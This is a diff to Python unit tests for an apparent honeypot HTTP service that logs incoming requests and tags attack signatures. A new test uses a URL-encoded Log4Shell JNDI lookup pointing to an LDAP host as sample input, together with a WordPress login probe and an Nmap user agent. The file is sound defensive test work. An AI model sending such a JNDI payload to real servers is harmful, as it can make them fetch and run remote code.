@@ -1,4 +1,5 @@
 import unittest
+from src.services.http.body_capture import CapturedBody
 from src.services.http.http_service import HTTPService
 from unittest.mock import Mock, patch
 
@@ -8,6 +9,7 @@ class TestHTTPService(unittest.TestCase):
         self.request = Mock()
         self.request.method = "POST"
         self.request.path = "/"
+        self.request.raw_path = "/"
         self.request.remote = "127.0.0.1"
         self.request.headers = {
             "User-Agent": "DummyAgent",
@@ -16,18 +18,34 @@ class TestHTTPService(unittest.TestCase):
         }
 
     def test_create_payload(self):
-        request_payload = "test payload"
+        request_payload = CapturedBody.from_bytes(b"test payload", 1024)
         payload = self.service.create_payload(self.request, request_payload)
 
-        self.assertIsNotNone(payload["happened_at"])
-        self.assertEqual(payload["ip_address"], "127.0.0.1")
-        self.assertEqual(payload["incident_type"], "BH-HTTP")
-        self.assertEqual(payload["metadata"]["user_agent"], "DummyAgent")
-        self.assertEqual(payload["metadata"]["method"], "POST")
-        self.assertEqual(payload["metadata"]["path"], "/")
-        self.assertIsNotNone(payload["metadata"]["headers"])
-        self.assertEqual(payload["metadata"]["payload"], request_payload)
-        self.assertFalse(payload["metadata"]["is_malformed"])
+        self.assertIsNotNone(payload.happened_at)
+        self.assertEqual(payload.ip_address, "127.0.0.1")
+        self.assertEqual(payload.incident_type, "BH-HTTP")
+        self.assertEqual(payload.metadata["user_agent"], "DummyAgent")
+        self.assertEqual(payload.metadata["method"], "POST")
+        self.assertEqual(payload.metadata["path"], "/")
+        self.assertIsNotNone(payload.metadata["headers"])
+        self.assertEqual(payload.metadata["payload"], "test payload")
+        self.assertEqual(payload.metadata["payload_encoding"], "utf-8")
+        self.assertEqual(payload.metadata["payload_length"], 12)
+        self.assertFalse(payload.metadata["is_malformed"])
+        self.assertEqual(payload.metadata["signatures"], [])
+        self.assertIsNone(payload.metadata["severity"])
+
+    def test_create_payload_tags_signatures(self):
+        self.request.path = "/wp-login.php"
+        self.request.raw_path = "/wp-login.php?redirect=%24%7Bjndi:ldap://203.0.113.7/a%7D"
+        self.request.headers["User-Agent"] = "Mozilla/5.0 (compatible; Nmap Scripting Engine)"
+        payload = self.service.create_payload(self.request, None)
+
+        self.assertEqual(
+            payload.metadata["signatures"],
+            ["log4shell", "wordpress-probe", "scanner-user-agent"],
+        )
+        self.assertEqual(payload.metadata["severity"], "critical")
 
     def test_is_malformed(self):
         # A GET request with no payload is not malformed
@@ -81,6 +99,15 @@ class TestHTTPService(unittest.TestCase):
         )
         self.assertTrue(is_malformed)
 
+        # A path with control characters is malformed
+        is_malformed = self.service.is_malformed(
+            "GET",
+            "/\x00",
+            {"User-Agent": "DummyAgent", "Accept": "text/html", "Host": "localhost"},
+            None,
+        )
+        self.assertTrue(is_malformed)
+
     @patch("src.incidents.incident.Incident.create")
     def test_create_response(self, mock_create):
         mock_create.return_value = None